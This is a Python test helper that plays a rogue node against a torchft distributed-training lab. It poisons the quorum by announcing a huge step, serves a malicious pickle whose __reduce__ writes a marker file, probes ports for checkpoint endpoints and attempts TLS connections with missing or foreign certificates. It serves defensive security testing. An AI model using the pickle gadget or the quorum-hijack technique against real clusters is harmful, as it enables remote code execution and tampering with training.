"""A rogue process for the e2e tests (tests/e2e/test_rogue_lab.py): it runs in a lab namespace of its
own, holds no certificate of the run, and tries everything a stranger on the WAN could:

- join: a real torchft Manager that asks the run's Lighthouse for a quorum, announcing step 10^6 so
  that every other member would heal from it, with a checkpoint transport that points healers at
- its HTTP server, which serves a crafted pickle: unpickling it creates the `marker` file;
- metadata: asks every port of the sites for torchft's checkpoint metadata (where heal state is served);
- http: GETs torchft's checkpoint path on every port (HTTPTransport's heal server, where one exists);
- tls: opens TLS connections to every port, with no certificate and with a certificate of another
  run's CA naming a real site, holds them until the site's listener handshakes (its next quorum),
  then sends a hello and a payload of huge floats, and counts the bytes that come back.

    python -m tests.e2e.rogue_agent CONFIG_JSON      # prints "ready" once every probe is under way,
                                                     # writes the results to config["out"] when
                                                     # config["stop"] exists (or after max_s)
"""

from __future__ import annotations

import json
import os
import select
import socket
import ssl
import sys
import threading
import time
from datetime import timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

STEP = 10**6  # announced to the Lighthouse: above any real site, so the rogue would be the heal source


class Evil:
    """Unpickling this creates the marker file: what any code the rogue chose would do instead."""

    def __init__(self, marker: str):
        self.marker = marker

    def __reduce__(self):
        return (open, (self.marker, "w"))


class Results:
    def __init__(self):
        self.lock = threading.Lock()
        self.data = {"join": {"attempts": 0, "joined": 0, "participants": [], "errors": []},
                     "http_requests": 0, "metadata": [], "http": [], "tls": []}

    def add(self, key, value):
        with self.lock:
            self.data[key].append(value)


def serve_pickle(me: str, marker: str, res: Results) -> int:
    import io

    from torch.distributed._serialization import _streaming_save

    buf = io.BytesIO()
    _streaming_save(Evil(marker), buf)
    body = buf.getvalue()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802
            with res.lock:
                res.data["http_requests"] += 1
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *a):
            pass

    srv = ThreadingHTTPServer((me, 0), Handler)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    return srv.server_address[1]


def join(cfg: dict, http_port: int, res: Results, stop: threading.Event) -> None:
    """A torchft Manager of the rogue's own, asking for a quorum until told to stop."""
    from torch.distributed import TCPStore
    from torchft import Manager, ProcessGroupGloo
    from torchft.checkpointing.transport import CheckpointTransport

    me = cfg["me"]
    url = f"http://{me}:{http_port}/checkpoint/"

    class EvilTransport(CheckpointTransport):
        def metadata(self) -> str:
            return url  # a healer fetches url + step + "/full" and unpickles it (HTTPTransport)

        def send_checkpoint(self, dst_ranks, step, state_dict, timeout) -> None:
            pass

        def disallow_checkpoint(self) -> None:
            pass

        def recv_checkpoint(self, src_rank, metadata, step, timeout):
            raise RuntimeError("the rogue never heals")

        def shutdown(self, wait: bool = True) -> None:
            pass

    j = res.data["join"]
    try:
        store = TCPStore(host_name=me, port=0, is_master=True, wait_for_workers=False)
        manager = Manager(pg=ProcessGroupGloo(timeout=timedelta(seconds=20)), load_state_dict=lambda sd: None,
                          state_dict=lambda: {}, min_replica_size=1, use_async_quorum=False,
                          timeout=timedelta(seconds=20), quorum_timeout=timedelta(seconds=10),
                          connect_timeout=timedelta(seconds=5), lighthouse_addr=cfg["lighthouse"],
                          replica_id="rogue", store_addr=me, store_port=store.port, rank=0, world_size=1,
                          hostname=me, checkpoint_transport=EvilTransport(), init_sync=False)
    except Exception as e:  # noqa: BLE001 - whatever stopped it is the result
        j["errors"].append(f"manager: {type(e).__name__}: {str(e)[:300]}")
        return
    while not stop.is_set():
        j["attempts"] += 1
        try:
            manager._step = STEP
            manager.start_quorum(timeout=timedelta(seconds=10))
            if manager.errored():
                raise RuntimeError(str(manager.errored()))
            j["joined"] += 1
            j["participants"].append(manager.num_participants())
            manager.should_commit(timeout=timedelta(seconds=10))
        except Exception as e:  # noqa: BLE001
            if len(j["errors"]) < 20:
                j["errors"].append(f"{type(e).__name__}: {str(e)[:300]}")
        stop.wait(1.0)


def metadata(targets, res: Results) -> None:
    from torchft._torchft import ManagerClient

    for host, port in targets:
        try:
            md = ManagerClient(f"http://{host}:{port}", connect_timeout=timedelta(seconds=3))._checkpoint_metadata(
                0, timeout=timedelta(seconds=3))
            res.add("metadata", {"port": port, "host": host, "answer": md})
        except Exception:  # noqa: BLE001 - not a ManagerServer, or no metadata: nothing learnt
            pass


def http(targets, step_guess: int, res: Results) -> None:
    for host, port in targets:
        try:
            with socket.create_connection((host, port), timeout=3) as s:
                s.settimeout(3)
                s.sendall(f"GET /checkpoint/{step_guess}/full HTTP/1.0\r\n\r\n".encode())
                got = s.recv(64)
            if got.startswith(b"HTTP/"):
                res.add("http", {"port": port, "host": host, "status": got.split(b"\r\n", 1)[0].decode("latin-1")})
        except OSError:
            pass


def tls_probe(host: str, port: int, cred: dict | None, res: Results, stop: threading.Event) -> None:
    """Hold a TLS connection until the other end handshakes (or refuses), then try to contribute."""
    rec = {"host": host, "port": port, "cred": "foreign CA" if cred else "none", "handshake": "pending",
           "app_bytes": 0, "sent": 0}
    res.add("tls", rec)
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE  # a stranger takes whoever answers
    if cred:
        ctx.load_cert_chain(cred["cert"], cred["key"])
    try:
        raw = socket.create_connection((host, port), timeout=5)
    except OSError as e:
        rec["handshake"] = f"connect: {e}"
        return
    s = ctx.wrap_socket(raw, do_handshake_on_connect=False)
    s.setblocking(False)
    try:
        while True:
            try:
                s.do_handshake()
                break
            except ssl.SSLWantReadError:
                if stop.is_set():
                    rec["handshake"] = "never answered"
                    return
                select.select([s], [], [], 1.0)
            except ssl.SSLWantWriteError:
                select.select([], [s], [], 1.0)
        rec["handshake"] = "ok"
        s.setblocking(True)
        s.settimeout(10)
        # a hello in the transport's format would need this run's session; send what a rogue has:
        # bytes shaped like one, then a payload of huge floats
        payload = b"DLTH" + b"\x00" * 60 + (b"\x7f\x7f\xff\xff" * (1 << 16))
        s.sendall(payload)
        rec["sent"] = len(payload)
        while data := s.recv(65536):
            rec["app_bytes"] += len(data)
    except (OSError, ssl.SSLError) as e:
        if rec["handshake"] == "pending":
            rec["handshake"] = f"refused: {type(e).__name__}: {str(e)[:120]}"
        else:
            rec["after"] = f"{type(e).__name__}: {str(e)[:120]}"
    finally:
        s.close()


def main() -> int:
    cfg = json.loads(sys.argv[1])
    res = Results()
    stop = threading.Event()
    targets = [tuple(t) for t in cfg["targets"]]
    http_port = serve_pickle(cfg["me"], cfg["marker"], res)
    threads = [threading.Thread(target=tls_probe, args=(h, p, c, res, stop), daemon=True)
               for h, p in targets for c in (None, cfg["foreign"])]
    for t in threads:
        t.start()
    time.sleep(1.0)
    print("ready", flush=True)
    joiner = threading.Thread(target=join, args=(cfg, http_port, res, stop), daemon=True)
    joiner.start()
    metadata(targets, res)
    deadline = time.monotonic() + cfg.get("max_s", 600)
    while not os.path.exists(cfg["stop"]) and time.monotonic() < deadline:
        http(targets, cfg.get("step_guess", 1), res)
        time.sleep(2.0)
    metadata(targets, res)
    stop.set()
    for t in [*threads, joiner]:
        t.join(30)
    with res.lock:
        with open(cfg["out"], "w") as f:
            json.dump(res.data, f)
    print("done", flush=True)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
